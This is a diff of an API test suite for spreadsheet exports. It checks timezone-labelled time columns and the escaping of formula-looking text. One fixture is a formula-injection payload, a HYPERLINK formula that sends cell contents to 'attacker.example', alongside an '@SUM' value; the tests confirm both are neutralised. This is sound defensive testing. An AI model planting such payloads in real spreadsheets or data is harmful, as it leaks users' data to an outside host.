@@ -1,9 +1,11 @@
 /**
  * Exports: an .xlsx of every matching row, headers in the caller's language, the list's visibility
- * and filters, and keyset paging that neither skips nor repeats rows across pages.
+ * and filters, and keyset paging that neither skips nor repeats rows across pages; times on the
+ * clocks the screen shows them on, and texts no spreadsheet reads as a formula.
  */
 import { beforeAll, describe, expect, it } from 'vitest';
 import { useDemoServer } from '../support/demo-world';
+import { brandId, newStore, storeId } from '../support/merchant';
 import { postExport } from '../support/xlsx';
 
 const ctx = useDemoServer(['admin', 'dealer1', 'staff1']);
@@ -49,7 +51,7 @@ describe('POST /distributor/export', () => {
       'SMS balance',
       'Status',
       'Remark',
-      'Created at',
+      'Created at (UTC)',
     ]);
     expect(
       en.rows
@@ -138,11 +140,85 @@ describe('POST /staff/export', () => {
       'Phone',
       'Email',
       'Status',
-      'Created at',
-      'Last login',
+      'Created at (UTC)',
+      'Last login (UTC)',
     ]);
     expect(answer.rows.slice(1).map((r) => r[1])).toEqual(['dealer1', 'dealer2', 'manager1', 'staff1', 'staff2']);
     expect(answer.rows[1][4]).toBe('Admin');
     expect(answer.headers.get('content-disposition')).toContain("filename*=UTF-8''Employees-");
+  });
+});
+
+/** The wall-clock time of an ISO instant in a zone `hours` ahead of UTC, as a date cell reads back (no zone). */
+const clockAt = (iso: string, hours: number) => new Date(Date.parse(iso) + hours * 3600_000);
+
+/** The `YYYYMMDD-HHMMSS` of an export's file name, read as a wall-clock time. */
+const stampOf = (headers: Headers) => {
+  const [, d, t] = /-(\d{8})-(\d{6})\.xlsx$/.exec(decodeURIComponent(headers.get('content-disposition')!))!;
+  return Date.UTC(+d.slice(0, 4), +d.slice(4, 6) - 1, +d.slice(6), +t.slice(0, 2), +t.slice(2, 4), +t.slice(4));
+};
+
+describe('times and texts in an export', () => {
+  it("writes a store's times on its country's clocks, the zone in the header, and formula-looking texts escaped", async () => {
+    const formula = '=HYPERLINK("http://attacker.example/?"&A1,"Open")';
+    const body = newStore(await brandId(ctx.w, 'Kopi Kenangan Kita'), {
+      name: formula,
+      address: '@SUM(A1:A9)',
+      contact_phone: '+62 812 000',
+    });
+    const id = (await ctx.api.post('/store/create', body, { token: ctx.token.dealer1 })).data.id;
+    expect((await ctx.api.post('/store/activate', { id, years: 1 }, { token: ctx.token.dealer1 })).code).toBe(0);
+    const store = (await ctx.api.get('/store/detail', { token: ctx.token.dealer1, query: { id } })).data;
+
+    const file = await postExport(ctx.server.api, '/store/export', { name: '=HYPERLINK' }, ctx.token.dealer1, { lang: 'en-US' });
+    const [headers, row] = file.rows;
+    const cell = (header: string) => row[headers.indexOf(header)];
+    expect(headers).toEqual(expect.arrayContaining(['Activated at (GMT+7)', 'Expires at (GMT+7)', 'Created at (GMT+7)']));
+    expect(cell('Activated at (GMT+7)')).toEqual(clockAt(store.activated_at, 7));
+    expect(cell('Expires at (GMT+7)')).toEqual(clockAt(store.expire_at, 7));
+    expect(cell('Name')).toBe(`'${formula}`);
+    expect(cell('Address')).toBe("'@SUM(A1:A9)");
+    // digits and + - ( ) name no function nor cell: a phone number stays as it is
+    expect(cell('Contact phone')).toBe('+62 812 000');
+
+    const zh = await postExport(ctx.server.api, '/store/export', { name: '=HYPERLINK' }, ctx.token.dealer1, { lang: 'zh-CN' });
+    expect(zh.rows[0]).toContain('激活时间（GMT+7）');
+  });
+
+  it("names no single zone when the stores' countries differ, each time on its own store's clocks", async () => {
+    const file = await postExport(ctx.server.api, '/store/export', { countries: 'ID,TR' }, ctx.token.admin);
+    const [headers, ...rows] = file.rows;
+    const created = headers.indexOf('Created at (local time)');
+    expect(created).toBeGreaterThan(-1);
+    for (const [name, hours] of [
+      ['Kebapçı Halil Kadıköy', 3],
+      ['Kopi Kita Sudirman', 7],
+    ] as const) {
+      const id = await storeId(ctx.w, name);
+      const store = (await ctx.api.get('/store/detail', { token: ctx.token.admin, query: { id } })).data;
+      expect(rows.find((row) => row[0] === id)![created], name).toEqual(clockAt(store.created_at, hours));
+    }
+  });
+
+  it("writes other times, and stamps the file name, in the zone the caller's screen shows (tz), UTC without one", async () => {
+    const dealer = (await ctx.api.get('/distributor/detail', { token: ctx.token.admin, query: { id: ctx.w.org.tr1 } })).data;
+    const shanghai = await dealers({ countries: 'TR', tz: 'Asia/Shanghai' });
+    const created = shanghai.rows[0].indexOf('Created at (GMT+8)');
+    expect(created).toBeGreaterThan(-1);
+    expect(shanghai.rows.find((row) => row[0] === dealer.id)![created]).toEqual(clockAt(dealer.created_at, 8));
+    expect(Math.abs(stampOf(shanghai.headers) - (Date.now() + 8 * 3600_000))).toBeLessThan(120_000);
+
+    // a zone with summer time has no one offset: the header names it
+    const newYork = await dealers({ countries: 'TR', tz: 'America/New_York' });
+    expect(newYork.rows[0]).toContain('Created at (America/New_York)');
+
+    const utc = await dealers({ countries: 'TR' });
+    expect(utc.rows.find((row) => row[0] === dealer.id)![13]).toEqual(clockAt(dealer.created_at, 0));
+    expect(Math.abs(stampOf(utc.headers) - Date.now())).toBeLessThan(120_000);
+
+    for (const tz of ['Mars/Olympus', '', 'x'.repeat(80)]) {
+      const bad = await dealers({ tz });
+      expect([bad.status, bad.code, bad.reason], tz).toEqual([400, 1001, 'tz']);
+    }
   });
 });
